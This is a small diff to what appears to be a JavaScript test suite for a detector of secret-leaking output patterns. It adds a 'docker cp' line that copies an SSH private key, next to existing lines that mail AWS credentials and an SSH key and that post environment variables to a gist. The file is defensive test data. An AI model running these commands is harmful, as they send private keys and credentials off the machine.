@@ -101,6 +101,7 @@ describe('output patterns', () => {
         // Mail, pastes, container copies, and git reading the whole text for staged secrets.
         'mail -A ~/.aws/credentials x@y < ~/.ssh/id_rsa ',
         'env | gh gist create - ',
+        'docker cp ~/.ssh/id_rsa c:/t ',
       ].map((unit) => unit.repeat(Math.ceil(size / 4 / unit.length))),
     ];
     for (const text of runs) {
